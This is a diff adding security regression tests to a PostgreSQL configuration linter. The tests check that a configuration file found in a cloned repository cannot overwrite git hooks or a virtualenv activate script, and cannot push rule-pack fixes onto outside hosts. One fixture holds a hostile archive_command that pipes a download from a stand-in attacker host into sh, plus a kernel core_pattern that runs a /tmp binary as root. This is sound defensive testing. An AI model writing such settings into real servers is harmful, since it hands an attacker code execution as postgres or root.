@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 from pathlib import Path
 from typing import Any
 
@@ -249,3 +250,91 @@ def test_a_configuration_naming_its_own_files_still_works(tmp_path: Path, monkey
     monkeypatch.chdir(repository)
     code, stdout, stderr = lint()
     assert code == 1 and [finding["rule_id"] for finding in json.loads(stdout)["findings"]] == ["OPS001"], stderr
+
+
+@pytest.mark.parametrize("named", [".git/hooks/pre-commit", "hooks/pre-commit", ".git/../.git/hooks/pre-commit",
+                                   "sub/.git/hooks/pre-commit"])
+def test_a_found_configuration_names_no_file_of_git_itself(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                           named: str) -> None:
+    """`baseline = ".git/hooks/pre-commit"` in a cloned repository: `pgvet baseline create` wrote its JSON over the
+    hook pre-commit had installed, keeping its mode 0755, and the next `git commit` ran it with sh, which ran the
+    `$(…)` of a host name the repository chose. A clone brings no file of .git: git's directory is the user's."""
+    repository = tmp_path / "repository"
+    hook = repository / ".git" / "hooks" / "pre-commit"
+    hook.parent.mkdir(parents=True)
+    hook.write_text("#!/bin/sh\nexec pre-commit\n")
+    hook.chmod(0o755)
+    (repository / "hooks").symlink_to(".git/hooks")  # a link inside the repository, into git's directory
+    (repository / "sub" / ".git" / "hooks").mkdir(parents=True)  # a repository within (a vendored clone)
+    (repository / "sub" / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
+    (repository / ".pgvet.toml").write_text(f'baseline = "{named}"\n')
+    monkeypatch.chdir(repository)
+    result = runner.invoke(app, ["baseline", "create", HOST])
+    assert result.exit_code == 2, result.output
+    assert result.stderr == (f"pgvet: error: {repository / '.pgvet.toml'}: 'baseline' names {named}, which is in a "
+                             "git directory (.git): its files are git's, not the repository's (a hook among them runs "
+                             "code); give it with --config to trust it\n")
+    assert hook.read_text() == "#!/bin/sh\nexec pre-commit\n"
+    (repository / ".pgvet.toml").write_text('ignore-file = ".git/config"\n')  # nor is one read
+    code, stdout, stderr = lint()
+    assert code == 2 and stdout == "" and "'ignore-file' names .git/config, which is in a git directory" in stderr
+
+
+def test_baseline_create_replaces_no_file_but_a_baseline_a_found_configuration_names(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """`baseline = ".venv/bin/activate"`: the virtual environment in a checkout is the user's, not the repository's
+    (ignored, never committed); `baseline create` wrote its JSON over the script the user sources, and the shell
+    ran the `$(…)` of a host name the repository chose. A baseline it names may replace a baseline only."""
+    repository = tmp_path / "repository"
+    activate = repository / ".venv" / "bin" / "activate"
+    activate.parent.mkdir(parents=True)
+    (repository / ".git").mkdir()
+    activate.write_text("# This file must be used with \"source bin/activate\"\nexport VIRTUAL_ENV=x\n")
+    (repository / ".pgvet.toml").write_text('baseline = ".venv/bin/activate"\n')
+    monkeypatch.chdir(repository)
+    result = runner.invoke(app, ["baseline", "create", HOST])
+    assert result.exit_code == 2, result.output
+    assert result.stderr == (f"pgvet: error: {activate}: not a pgvet baseline, and the configuration "
+                             f"{repository / '.pgvet.toml'} names it: not replaced (give it with -o to replace it)\n")
+    assert activate.read_text().startswith("# This file must be used")
+    (repository / ".pgvet.toml").write_text('baseline = "pgvet-baseline.json"\n')  # a baseline is replaced
+    (repository / "pgvet-baseline.json").write_text('{"format": 1, "findings": {}}\n')
+    assert runner.invoke(app, ["baseline", "create", HOST]).exit_code == 0
+    assert json.loads((repository / "pgvet-baseline.json").read_text())["findings"]
+    (repository / "pgvet-baseline.json").unlink()  # and a new one made
+    assert runner.invoke(app, ["baseline", "create", HOST]).exit_code == 0
+    assert runner.invoke(app, ["baseline", "create", HOST, "-o", str(activate)]).exit_code == 0  # the user's word
+
+
+@pytest.mark.parametrize("setting", ['rules = ["pack"]', "[params.derived.work_mem_operations]\nnodes_per_query = 4"])
+def test_fix_write_applies_a_found_configurations_packs_only_to_its_repositorys_hosts(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, setting: str) -> None:
+    """`pgvet fix --write /etc/postgresql/16/main`, run as root from a cloned repository, applied the rule pack its
+    .pgvet.toml named: its fix wrote `archive_command = 'curl … | sh'` into the host's postgresql.conf and
+    `kernel.core_pattern = |/tmp/evil %p` into its sysctl.d, which run as postgres and as root."""
+    repository = tmp_path / "repository"
+    (repository / ".git").mkdir(parents=True)
+    (repository / "pack").mkdir()
+    (repository / "pack" / "ops.yaml").write_text(
+        "rules:\n  - id: OPS001\n    name: ops-archive\n    title: t\n    severity: warning\n    when: TRUE\n"
+        "    message: m\n    fix:\n      postgresql: {archive_command: \"curl -s http://evil.example/x | sh\"}\n"
+        "      sysctl: {kernel.core_pattern: \"|/tmp/evil %p\"}\n")
+    (repository / ".pgvet.toml").write_text(setting + "\n")
+    host = tmp_path / "etc-postgresql"
+    shutil.copytree(FIXTURES / "config-repo", host)
+    before = {path: path.read_bytes() for path in host.rglob("*") if path.is_file()}
+    monkeypatch.chdir(repository)
+    monkeypatch.setenv("PGVET_CACHE_DIR", str(tmp_path / "cache"))
+    result = runner.invoke(app, ["fix", "--write", str(host)])
+    assert result.exit_code == 2, result.output
+    assert result.stderr == (f"pgvet: error: {host}: outside the repository {repository}, whose configuration "
+                             f"{repository / '.pgvet.toml'} names rule packs or parameters: fix --write applies them "
+                             "to the repository's own hosts only (give it with --config to apply them here)\n")
+    assert {path: path.read_bytes() for path in host.rglob("*") if path.is_file()} == before
+    assert runner.invoke(app, ["fix", str(host)]).exit_code in (0, 1)  # printed, for the user to read
+    inside = repository / "hosts" / "db"
+    shutil.copytree(FIXTURES / "config-repo", inside)
+    result = runner.invoke(app, ["fix", "--write", "hosts/db"])  # the repository's own host: its own word
+    assert result.exit_code in (0, 1) and "wrote" in result.stderr, result.output
+    result = runner.invoke(app, ["fix", "--write", "--config", ".pgvet.toml", str(host)])  # the user's word
+    assert result.exit_code in (0, 1) and "wrote" in result.stderr, result.output
